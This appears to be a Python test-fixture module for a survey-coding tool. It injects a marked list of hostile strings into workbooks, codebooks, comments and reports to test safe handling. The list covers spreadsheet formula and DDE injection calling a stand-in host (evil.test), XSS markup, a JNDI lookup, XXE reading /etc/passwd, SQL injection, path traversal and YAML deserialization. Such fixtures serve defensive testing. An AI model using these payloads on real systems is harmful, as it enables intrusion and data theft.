"""What somebody hostile would write wherever a text can be written, and a survey full of it.

Each of `PAYLOADS` holds its own mark (`zq00`, `zq01`, ...), by which it is found again wherever it
comes out; those of `UNKEPT` hold signs that no XML and no database takes, `LONG` more than a cell.
"""

import io
import re
from collections.abc import Iterator

import openpyxl
import pandas as pd
import yaml

from analysis import codebook, load, work
from analysis.codebook.structure_file import STRUCTURE
from analysis.load import table_file
from analysis.material import Material
from analysis.wording import LANGUAGES
from analysis.workspace import approvals, by_hand, exchange, grid, pseudonyms, samples, surveys
from analysis.workspace.by_hand import Choice
from analysis.workspace.database import Database
from analysis.workspace.decisions import ADD
from analysis.workspace.quotes import Quote, quotes_table

HOST = "evil.test"
_MARK = re.compile(r"zq\d\d")

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
_FORMULAS = (
    '=HYPERLINK("http://evil.test/~","a")',
    "=cmd|' /C calc ~'!A0",
    "+cmd|' /C calc ~'!A0",
    "@SUM(1+9)*cmd|' /C calc ~'!A0",
    '=DDE("cmd";"/C calc ~";"a")',
    '=IMPORTXML("http://evil.test/~","//a")',
    '=WEBSERVICE("http://evil.test/~")',
    ";=1+2;~",
    ',=1+2,"=1+2",~',
    '"=1+2" ~',
)
_MARKUP = (
    "<script>window.__pwn='~'</script>",
    "</script><script>window.__pwn='~'</script>",
    "</title></style></textarea><script>window.__pwn='~'</script>",
    "]]><script>window.__pwn='~'</script>",
    "<img src=http://evil.test/~.png>",
    "<img src=x onerror=\"window.__pwn='~'\">",
    "<svg onload=window.__pwn='~'><circle r=1>",
    "<svg><a xlink:href='http://evil.test/~'><text>a</text></a></svg>",
    "<iframe srcdoc='<script>parent.__pwn=`~`</script>'>",
    "<iframe src=http://evil.test/~></iframe>",
    "<object data=http://evil.test/~></object><embed src=http://evil.test/~>",
    "<link rel=stylesheet href=http://evil.test/~.css><base href=http://evil.test/>",
    "<style>@import 'http://evil.test/~.css';*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/~'>",
    "<a href=\"javascript:window.__pwn='~'\">a</a>",
    "<b>bold</b> <a href='http://evil.test/~'>a</a> <extra>~</extra>",
    "%{meta.a} %{y} %{customdata[0]} <br>~",
    "<details open ontoggle=window.__pwn='~'>",
    "' onmouseover='window.__pwn=1' ~",
    '" onfocus="window.__pwn=\'~\'" autofocus="',
    "![~](http://evil.test/~.png)",
    "[~](http://evil.test/~)",
    "[~](javascript:window.__pwn=1)",
    "[~]: http://evil.test/~",
    "http://evil.test/~",
    "www.evil.test/~ and anna~@evil.test",
    "$\\href{http://evil.test/~}{a}$",
    "$$\\includegraphics{http://evil.test/~.png}$$",
    ":red[~] :blue-background[~]",
    ":material/home: :~: :smile: :sunglasses:",
    "**~** _~_ `~` ~~gone~~",
    "# ~",
    "- ~",
    "1. ~",
    "> ~",
    "| ~ | b |",
    "&lt;~&gt; &amp; &#60;script&#62; &nbsp;",
    "a < b > c & d ~",
    "{{ 7*7 }}{% for a in b %} ~",
    "{0} {name} {count} %s %(name)s {~",
    "${jndi:ldap://evil.test/~}",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x; ~",
    "<?xml version='1.0'?><!-- ~ --><![CDATA[",
    "_x0041_ _x000D_ ~",
    "'; DROP TABLE answers;-- ~",
    '" OR ""=" ~',
    "../../etc/passwd ~",
    "\\\\evil.test\\~\\x",
    "C:\\Windows\\~ file:///etc/passwd",
    "!!python/object/apply:os.system ['~']",
    "~: {a: [b, *c, &d]} #",
    '{"__proto__": {"~": 1}}',
    "\u202egpj.~\u202c.exe",
    "a\u200b~\u200d\ufeff\u2066b\u2069",
    "url(http://evil.test/~) expression(~)",
    "~" + "a" * 300,
)


def _marked() -> tuple[str, ...]:
    own = (*(f"{start}1+2 ~" for start in _STARTS), *_FORMULAS, *_MARKUP)
    return tuple(
        text.replace("~~", "\0").replace("~", f"zq{at:02}").replace("\0", "~~")
        for at, text in enumerate(own)
    )


PAYLOADS = _marked()
UNKEPT = ("\x07bell", "a\x00b", "\x1b[31mred\x1b[0m", "\ud800", "a\udfffb", "a\ufffeb\x0b")
LONG = "=" + "y" * 40_000

# Headings that the reader knows, each with a payload of its own; what stands below them.
CLOSED = 5
_HEADS = (
    "ID",
    *(f"Closed {at}? " + PAYLOADS[25 + 4 * at] for at in range(CLOSED)),
    "What benefits does it have? " + PAYLOADS[21],
    "What challenges were there? " + PAYLOADS[41],
    "Give an example of a project. " + PAYLOADS[45],
    "Other, which? " + PAYLOADS[36],
)
_SAID = (
    "Everyone can join. ",
    "It takes a lot of time. ",
    "We met on Zoom before the visit. ",
    "",
)
FILE = f"<img src=x onerror=window.__pwn=1>![n](http://{HOST}/n.png) =1+2.xlsx"
SHEET = "=1+2 <svg onload=__pwn=1>"


def marks(text: str) -> set[str]:
    """Return the marks of the payloads of which anything stands in a text."""
    return set(_MARK.findall(text))


def shifted(at: int, by: int) -> str:
    """Return the payload so many places after one."""
    return PAYLOADS[(at + by) % len(PAYLOADS)]


def rows(people: int, closed: int = CLOSED) -> list[tuple[str, ...]]:
    """Return a survey with its heading, of so many closed questions: of five, every payload is an
    option. Each stands in the answers of so many respondents to each open one."""
    made = [(*_HEADS[: closed + 1], *_HEADS[CLOSED + 1 :])]
    for at, own in enumerate(PAYLOADS):
        for person in range(people):
            options = [PAYLOADS[of::CLOSED] for of in range(closed)]
            picked = [own[at % len(own)] for own in options]
            said = [text + shifted(at, 3 + by) for by, text in enumerate(_SAID)]
            made.append((f"{own} {person}", *picked, *said))
    return made


def xlsx(table: list[tuple[str, ...]], name: str = SHEET) -> bytes:
    """Return a table as a workbook in which each cell is the text that it is, as a survey tool
    exports it."""
    book = openpyxl.Workbook()
    book.active.title = name
    for row, cells in enumerate(table, 1):
        for column, text in enumerate(cells, 1):
            cell = book.active.cell(row, column)
            cell._value, cell.data_type = text.replace("_x", "_x005F_x"), "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def book() -> dict[str, bytes]:
    """Return the files of the codebook that ships with a payload for every name, definition and
    what is not meant, of codes and of facets, in every language."""
    files = codebook.texts_of()
    told = yaml.safe_load(files[STRUCTURE])
    for at, texts in enumerate(_texts(told)):
        texts.update(dict.fromkeys(texts, shifted(at, 0)))
    return {**files, STRUCTURE: yaml.safe_dump(told, sort_keys=False).encode()}


def _texts(told: object) -> Iterator[dict[str, str]]:
    """Yield every text of a codebook, as a mapping of languages."""
    if isinstance(told, dict) and set(told) <= set(LANGUAGES):
        yield told
    elif isinstance(told, dict | list):
        for own in told.values() if isinstance(told, dict) else told:
            yield from _texts(own)


def worked_on(database: Database, content: bytes, codes: int = 12) -> int:
    """Have colleagues work on a survey whose every name, reason, comment, memo and translation is
    a payload, and return its number in the database."""
    number, _ = work.code(load.read(content, FILE), database, FILE, book(), PAYLOADS[25])
    answers = [own for own in grid.found(database, number, grid.Filter()) if own.machine]
    ids = [code.id for code in codebook.from_texts(book()).codes()]
    for at, own in enumerate(PAYLOADS):
        answer, code = answers[at], ids[at % codes]
        said = Choice(answer.number, answer.version, code, ADD, 0, 5)
        by_hand.decide(database, number, [said], own, shifted(at, 1))
        by_hand.comment(database, number, answer.number, shifted(at, 2), shifted(at, 3))
        by_hand.memo(database, number, ids[at % len(ids)], shifted(at, 4), own)
        quote = (answer.respondent, answer.question, code, 0, len(answer.text), answer.text, "en")
        approvals.approve(database, number, Quote(*quote, shifted(at, 5), "sv"), own)
    drawn = pd.DataFrame([(own.respondent, own.question, 0.1) for own in answers[:9]])
    told = drawn.set_axis(["id", "question", "chance"], axis=1)
    sample = samples.draw(database, number, told, {"seed": 1}, PAYLOADS[29], PAYLOADS[41])
    for coder, picked in ((PAYLOADS[26], ids[:1]), (PAYLOADS[43], ids[1:2])):
        surveys.add_coder(database, coder)
        for one in samples.open_sample(database, sample):
            samples.rate(database, sample, one.number, coder, picked, shifted(one.number, 0))
    return number


def files(database: Database, content: bytes, preset: str = "public") -> Material:
    """Return the files of a report for an audience, of a survey with the work that colleagues did
    on it."""
    number = worked_on(database, content)
    named = pseudonyms.AUDIENCES
    ids = load.read(content, FILE).ids()
    return Material(
        ((FILE, content),),
        book(),
        exchange.decisions_csv(database, number),
        table_file.csv(quotes_table(approvals.quotes(database, number))),
        ids=pseudonyms.table_of(database, number, preset, ids, "Mia") if preset in named else None,
    )
